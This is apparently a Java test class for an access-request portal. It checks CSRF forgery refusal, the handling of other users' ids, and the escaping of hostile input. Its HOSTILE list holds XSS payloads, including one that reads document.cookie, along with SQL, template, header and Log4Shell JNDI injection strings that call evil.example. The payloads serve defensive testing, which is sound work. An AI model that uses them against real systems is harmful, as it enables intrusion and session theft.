package io.accessloop.portal.resilience;

import com.fasterxml.jackson.databind.ObjectMapper;
import com.github.tomakehurst.wiremock.WireMockServer;
import com.github.tomakehurst.wiremock.client.WireMock;
import io.accessloop.portal.support.Browser;
import io.accessloop.portal.support.Contract;
import io.accessloop.portal.support.People;
import io.accessloop.portal.support.ServiceStubs;
import io.accessloop.portal.support.Stubs;
import io.quarkus.test.common.http.TestHTTPResource;
import io.quarkus.test.junit.QuarkusTest;
import io.quarkus.test.oidc.server.OidcWireMock;
import org.htmlunit.Page;
import org.htmlunit.http.Cookie;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

import java.net.URL;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;

import static com.github.tomakehurst.wiremock.client.WireMock.aResponse;
import static com.github.tomakehurst.wiremock.client.WireMock.urlMatching;
import static org.assertj.core.api.Assertions.assertThat;

/**
 * Hostile browsers on the portal: CSRF tokens taken from another session, altered, truncated, emptied or separated
 * from their cookie on every form; other people's ids in URLs; markup and injection text in every form field and in
 * what a service answers. Refusals reach no service; everything shown is escaped.
 */
@QuarkusTest
class PortalAbuseTest {

    private static final ObjectMapper JSON = new ObjectMapper();
    private static final String PROPOSAL = "prp_0193a1b2c3d4e5f60718";

    /** Every form of the portal, with someone allowed to post it. */
    private static final List<Object[]> FORMS = List.of(
            new Object[]{People.EMPLOYEE, "/request/payments-readonly"},
            new Object[]{People.EMPLOYEE, "/request/payments-readonly/preview"},
            new Object[]{People.EMPLOYEE, "/access/grants/grt_01JEXAMPLEACTIVE/release"},
            new Object[]{People.EMPLOYEE, "/access/grants/grt_01JEXAMPLEACTIVE/credentials"},
            new Object[]{People.EMPLOYEE, "/access/grants/grt_01JEXAMPLEACTIVE/console"},
            new Object[]{People.EMPLOYEE, "/access/grants/grt_01JEXAMPLEACTIVE/extend"},
            new Object[]{People.EMPLOYEE, "/access/requests/req_01JEXAMPLEPENDING/cancel"},
            new Object[]{People.APPROVER, "/approvals/req_01JEXAMPLEPENDING/approve"},
            new Object[]{People.APPROVER, "/approvals/req_01JEXAMPLEPENDING/deny"},
            new Object[]{People.APPROVER, "/approvals/grants/grt_01JEXAMPLEBREAKGLASS/review"},
            new Object[]{People.SECURITY, "/offboarding"},
            new Object[]{People.SECURITY, "/drift/fnd_01JEXAMPLEADMIN/suppress"},
            new Object[]{People.SECURITY, "/rightsizing/" + PROPOSAL + "/approve"},
            new Object[]{People.SECURITY, "/rightsizing/" + PROPOSAL + "/reject"},
            new Object[]{People.SECURITY, "/rightsizing/" + PROPOSAL + "/apply"},
            new Object[]{People.SECURITY, "/rightsizing/" + PROPOSAL + "/rollback"});

    private static final List<String> FORGERIES = List.of("another session's token", "a middle character changed",
            "truncated", "empty", "cookie dropped");

    static final List<String> HOSTILE = List.of(
            "<script>alert(1)</script>",
            "\"><img src=x onerror=alert(document.cookie)>",
            "'><svg onload=alert(1)>",
            "javascript:alert(1)",
            "</textarea><script>alert(2)</script>",
            "{{7*7}} {#include secret /}",
            "line\r\nX-Injected: 1",
            "' OR '1'='1",
            "\u202Egnp.exe",
            "${jndi:ldap://evil.example/a}");

    @OidcWireMock
    WireMockServer oidc;

    @ServiceStubs.Inject
    WireMockServer services;

    @TestHTTPResource("/")
    URL base;

    @BeforeEach
    void stubs() {
        People.registerAll(oidc);
        services.resetAll();
        Stubs.answer(services, Stubs.get("/broker/api/v1/entitlements"), Contract.ENTITLEMENTS);
        Stubs.answer(services, Stubs.get("/broker/api/v1/grants"), Contract.MY_GRANTS);
        Stubs.answer(services, Stubs.get("/drift/api/v1/findings"), Contract.FINDINGS);
    }

    static Stream<Arguments> forgedPosts() {
        List<Arguments> all = new ArrayList<>();
        for (Object[] form : FORMS) {
            for (String forgery : FORGERIES) {
                all.add(Arguments.of(form[0], form[1], forgery));
            }
        }
        return all.stream();
    }

    @ParameterizedTest(name = "{2} to {1}")
    @MethodSource("forgedPosts")
    void aForgedCsrfTokenIsRefusedAndNothingReachesAService(People person, String path, String forgery) {
        String other = strangersToken();
        try (Browser browser = Browser.signedIn(base, person, "/request/payments-readonly")) {
            String real = browser.csrfToken("/request/payments-readonly");
            assertThat(real).isNotBlank().isNotEqualTo(other);
            Map<String, String> fields = fields("because");
            switch (forgery) {
                case "another session's token" -> fields.put("csrf-token", other);
                case "a middle character changed" -> {
                    // not the last character: Base64 ignores some of its bits, so changing it may change nothing
                    int middle = real.length() / 2;
                    char changed = real.charAt(middle) == 'A' ? 'B' : 'A';
                    fields.put("csrf-token", real.substring(0, middle) + changed + real.substring(middle + 1));
                }
                case "truncated" -> fields.put("csrf-token", real.substring(0, real.length() / 2));
                case "empty" -> fields.put("csrf-token", "");
                case "cookie dropped" -> {
                    fields.put("csrf-token", real);
                    dropCsrfCookie(browser);
                }
                default -> throw new IllegalArgumentException(forgery);
            }
            services.resetRequests();

            Page page = browser.post(path, fields);

            assertThat(page.getWebResponse().getStatusCode()).isIn(400, 403);
            assertThat(page.getWebResponse().getContentAsString()).doesNotContain(real);
        }
        assertThat(Stubs.writes(services)).as("a forged post reaches no service").isEmpty();
    }

    static Stream<Arguments> hostileFields() {
        List<Arguments> all = new ArrayList<>();
        for (Object[] form : FORMS) {
            for (int i = 0; i < HOSTILE.size(); i += 3) {
                all.add(Arguments.of(form[0], form[1], HOSTILE.get(i)));
            }
        }
        for (String value : HOSTILE) {
            all.add(Arguments.of(People.EMPLOYEE, "/request/payments-readonly", value));
        }
        return all.stream();
    }

    @ParameterizedTest(name = "{2} in every field of {1}")
    @MethodSource("hostileFields")
    void hostileTextInAFormOrInAServicesAnswerIsShownEscaped(People person, String path, String value)
            throws Exception {
        // a service that refuses and echoes the text back in its problem, as the broker does for unknown names
        services.stubFor(WireMock.post(urlMatching("/.*")).atPriority(10).willReturn(aResponse().withStatus(422)
                .withHeader("Content-Type", "application/problem+json")
                .withBody(JSON.writeValueAsString(Map.of("type", "urn:accessloop:problem:refused", "status", 422,
                        "title", "Refused " + value, "detail", "cannot accept " + value)))));
        try (Browser browser = Browser.signedIn(base, person, "/request/payments-readonly")) {
            String real = browser.csrfToken("/request/payments-readonly");
            browser.client().getOptions().setRedirectEnabled(false);
            Map<String, String> fields = fields(value);
            fields.put("minutes", value);
            fields.put("csrf-token", real);

            Page page = browser.post(path, fields);

            int status = page.getWebResponse().getStatusCode();
            assertThat(status).as("shown, refused by the portal or by the service, never a crash").isIn(200, 303, 400,
                    404, 422);
            String body = page.getWebResponse().getContentAsString();
            assertThat(body).doesNotContain("<script>alert").doesNotContain("<img src=x")
                    .doesNotContain("<svg onload").doesNotContain("</textarea><script>");
            assertThat(page.getWebResponse().getResponseHeaderValue("X-Injected")).isNull();
            if (status != 303) {
                assertThat(page.getWebResponse().getContentType()).isEqualTo("text/html");
            }
        }
    }

    static Stream<Arguments> othersIds() {
        return Stream.of(
                Arguments.of(People.SECURITY, "GET", "/drift/fnd_OTHERS01"),
                Arguments.of(People.SECURITY, "GET", "/rightsizing/prp_OTHERS01"),
                Arguments.of(People.SECURITY, "GET", "/offboarding/case_OTHERS01"),
                Arguments.of(People.EMPLOYEE, "POST", "/access/grants/grt_OTHERS01/release"),
                Arguments.of(People.EMPLOYEE, "POST", "/access/grants/grt_OTHERS01/credentials"),
                Arguments.of(People.EMPLOYEE, "POST", "/access/grants/grt_OTHERS01/console"),
                Arguments.of(People.EMPLOYEE, "POST", "/access/grants/grt_OTHERS01/extend"),
                Arguments.of(People.EMPLOYEE, "POST", "/access/requests/req_OTHERS01/cancel"),
                Arguments.of(People.APPROVER, "POST", "/approvals/req_OTHERS01/approve"),
                Arguments.of(People.APPROVER, "POST", "/approvals/req_OTHERS01/deny"));
    }

    @ParameterizedTest(name = "{0} {1} {2}")
    @MethodSource("othersIds")
    void someoneElsesIdIsNotFound(People person, String method, String path) {
        // what the services answer for an object the caller may not see
        services.stubFor(WireMock.any(urlMatching(".*_OTHERS01.*")).atPriority(1).willReturn(aResponse().withStatus(404)
                .withHeader("Content-Type", "application/problem+json")
                .withBody("{\"type\":\"urn:accessloop:problem:not-found\",\"status\":404,\"title\":\"Not found\","
                        + "\"detail\":\"No such object\"}")));
        try (Browser browser = Browser.signedIn(base, person, "/request/payments-readonly")) {
            String real = browser.csrfToken("/request/payments-readonly");
            browser.client().getOptions().setRedirectEnabled(false);
            Map<String, String> fields = fields("because");
            fields.put("csrf-token", real);

            Page page = method.equals("GET") ? browser.openAny(path) : browser.post(path, fields);

            assertThat(page.getWebResponse().getStatusCode()).isEqualTo(404);
            assertThat(page.getWebResponse().getContentAsString()).doesNotContain("AccessKeyId")
                    .doesNotContain("SecretAccessKey");
        }
    }

    private static String strangersToken;

    /** The form token of another person's session, valid there and only there. */
    private String strangersToken() {
        if (strangersToken == null) {
            try (Browser stranger = Browser.signedIn(base, People.AUDITOR, "/request/payments-readonly")) {
                strangersToken = stranger.csrfToken("/request/payments-readonly");
            }
        }
        return strangersToken;
    }

    private static Map<String, String> fields(String text) {
        return new HashMap<>(Map.of("reason", text, "minutes", "10", "days", "7", "comment", text, "ticket", text,
                "idempotencyKey", "k-123456789", "email", "lena@example.com", "note", text, "verdict", "ok",
                "destination", text));
    }

    private static void dropCsrfCookie(Browser browser) {
        for (Cookie cookie : new ArrayList<>(browser.client().getCookieManager().getCookies())) {
            if (cookie.getName().contains("csrf")) {
                browser.client().getCookieManager().removeCookie(cookie);
            }
        }
    }
}
